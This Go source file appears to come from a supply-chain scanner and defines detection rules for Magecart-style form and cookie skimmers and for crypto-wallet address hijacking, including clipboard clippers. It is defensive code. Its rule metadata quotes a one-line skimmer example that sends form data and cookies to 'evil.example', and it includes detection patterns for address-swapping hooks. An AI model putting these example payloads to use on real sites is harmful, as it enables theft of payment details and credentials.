// Package browser holds rules about code that attacks web pages.
package browser

import (
	"context"
	"fmt"
	"regexp"
	"slices"
	"strings"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/jsast"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// FormSkimmer flags code that reads form fields and cookies and sends them away.
type FormSkimmer struct{}

// Meta implements analyze.Rule.
func (FormSkimmer) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "browser/form-skimmer", Version: 1, Title: "Skims form fields and cookies",
		Help: "Code reads every form's fields (document.forms, input values) together with document.cookie and sends them to a hard-coded external " +
			"URL (fetch, XHR, an Image or a prefetch link). This is a Magecart-style card and password skimmer.",
		Remediation:     "Remove the package from any site build immediately.",
		Example:         `document.forms[0].addEventListener("submit", () => { new Image().src = "https://evil.example/c?d=" + btoa(data + document.cookie) })`,
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigCred, Needs: analyze.NeedCode,
	}
}

// Check implements analyze.Rule.
func (FormSkimmer) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		forms, cookie := 0, false
		line := 0
		for _, m := range f.Facts.Members {
			switch m.Name {
			case "document.forms":
				forms, line = m.Pos.Line, m.Pos.Line
			case "document.cookie":
				cookie = true
			}
		}
		if forms == 0 || !cookie {
			continue
		}
		dest := ""
		for _, s := range f.Facts.Strings {
			for _, u := range rulekit.URLs(s.Value) {
				if h := rulekit.Host(u); h != "" && !strings.Contains(h, "localhost") {
					dest = u
				}
			}
		}
		send := false
		for _, c := range f.Facts.Calls {
			if rulekit.IsNetCall(c) || c.Callee == "Image" || c.Callee == "document.createElement" {
				send = true
			}
		}
		if dest == "" || !send {
			continue
		}
		r.Report(analyze.Instance{File: f.Name, Line: line, Confidence: finding.ConfidenceHigh, Message: "reads form fields and cookies and sends them to " + dest})
	}
	return nil
}

// WalletHijack flags hooks on wallet/network APIs combined with address patterns.
type WalletHijack struct{}

// Meta implements analyze.Rule.
func (WalletHijack) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "browser/wallet-hijack", Version: 3, Title: "Hijacks crypto wallet traffic",
		Help: "Code replaces fetch, XMLHttpRequest or window.ethereum methods, or rewrites the clipboard, and contains several crypto-address " +
			"patterns (Bitcoin, Ethereum, Solana, Tron...), or one pattern plus a hard-coded wallet address to put in its place (in a " +
			"Node program, writing the clipboard means running pbcopy, clip, wl-copy, xclip, xsel or Set-Clipboard; in a " +
			"bundle, the address must sit next to the hook). Together this swaps payment addresses for the attacker's (the 2025 chalk/debug " +
			"compromise; clipboard clippers).",
		Remediation:     "Remove the package and check recent transactions made from affected pages.",
		Example:         `window.fetch = async (...a) => swapAddresses(await orig(...a)) // with /0x[a-fA-F0-9]{40}/ ...`,
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigWallet, Needs: analyze.NeedCode,
	}
}

var addrRe = []*regexp.Regexp{
	regexp.MustCompile(`0x\[a-fA-F0-9\]\{40\}|0x\[0-9a-fA-F\]\{40\}`),
	regexp.MustCompile(`\(1\|3\|bc1\)|\[13\]\[a-km-zA-HJ-NP-Z1-9\]|bc1q`),
	regexp.MustCompile(`T\[a-zA-Z0-9\]|T\[1-9A-HJ-NP-Za-km-z\]\{33\}`),
	regexp.MustCompile(`\[1-9A-HJ-NP-Za-km-z\]\{32,44\}`),
	regexp.MustCompile(`(?i)ltc1|\[LM3\]|bitcoincash:`),
}

// walletAddr is one literal wallet address (Ethereum, Bitcoin, Tron).
var walletAddr = regexp.MustCompile(`^(0x[0-9a-fA-F]{40}|bc1[02-9ac-hj-np-z]{25,87}|[13][1-9A-HJ-NP-Za-km-z]{25,34}|T[1-9A-HJ-NP-Za-km-z]{33})$`)

// clipboardWrite reports a command that writes the system clipboard:
// pbcopy, clip, wl-copy, xclip without -o, xsel with -i, PowerShell's
// Set-Clipboard.
func clipboardWrite(cmd string) bool {
	if strings.Contains(strings.ToLower(cmd), "set-clipboard") {
		return true
	}
	fs := strings.Fields(cmd)
	if len(fs) == 0 {
		return false
	}
	prog := strings.ToLower(fs[0])
	if i := strings.LastIndexAny(prog, `/\`); i >= 0 {
		prog = prog[i+1:]
	}
	switch strings.TrimSuffix(prog, ".exe") {
	case "pbcopy", "clip", "wl-copy":
		return true
	case "xclip":
		return !slices.Contains(fs[1:], "-o") && !slices.Contains(fs[1:], "-out")
	case "xsel":
		for _, a := range fs[1:] {
			if a == "-i" || a == "--input" || (strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.Contains(a, "i")) {
				return true
			}
		}
	}
	return false
}

// Check implements analyze.Rule.
func (WalletHijack) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		hook := ""
		line := 0
		var hooks []jsast.Pos
		for _, a := range f.Facts.Assigns {
			switch {
			case a.Target == "fetch", strings.HasPrefix(a.Target, "XMLHttpRequest.prototype."), strings.Contains(a.Target, "ethereum"), strings.HasSuffix(a.Target, ".request") && strings.Contains(a.Target, "ethereum"):
				hook, line = a.Target, a.Pos.Line
				hooks = append(hooks, a.Pos)
			}
		}
		for _, c := range f.Facts.Calls {
			switch {
			case c.Callee == "navigator.clipboard.writeText", c.Callee == "clipboardy.write", c.Callee == "clipboardy.writeSync",
				strings.HasSuffix(c.Callee, ".clipboard.writeText"), strings.HasSuffix(c.Callee, "clipboard.writeText"):
				hook, line = "the clipboard", c.Pos.Line
				hooks = append(hooks, c.Pos)
			case rulekit.IsSpawn(c) && clipboardWrite(rulekit.SpawnCommand(c)):
				// a clipper in Node writes through the system's tool
				hook, line = "the clipboard", c.Pos.Line
				hooks = append(hooks, c.Pos)
			}
		}
		if hook == "" {
			continue
		}
		kinds := 0
		for _, re := range addrRe {
			for _, s := range f.Facts.Strings {
				if re.MatchString(s.Value) {
					kinds++
					break
				}
			}
		}
		if kinds >= 2 {
			r.Report(analyze.Instance{File: f.Name, Line: line, Confidence: finding.ConfidenceHigh, Message: fmt.Sprintf("replaces %s and matches %d kinds of wallet addresses", hook, kinds)})
			continue
		}
		if kinds == 1 {
			// one address pattern and the attacker's address to swap in
			// (in a bundle, next to the hook)
			for _, s := range f.Facts.Strings {
				if walletAddr.MatchString(s.Value) && (f.Facts.Size <= 512<<10 || rulekit.Near(s.Pos, hooks)) {
					r.Report(analyze.Instance{File: f.Name, Line: line, Confidence: finding.ConfidenceHigh,
						Message:  fmt.Sprintf("replaces %s, matches wallet addresses and carries the address %s", hook, s.Value),
						Evidence: rulekit.Ev(s.Snippet.String(), s.Value, "")})
					break
				}
			}
		}
	}
	return nil
}
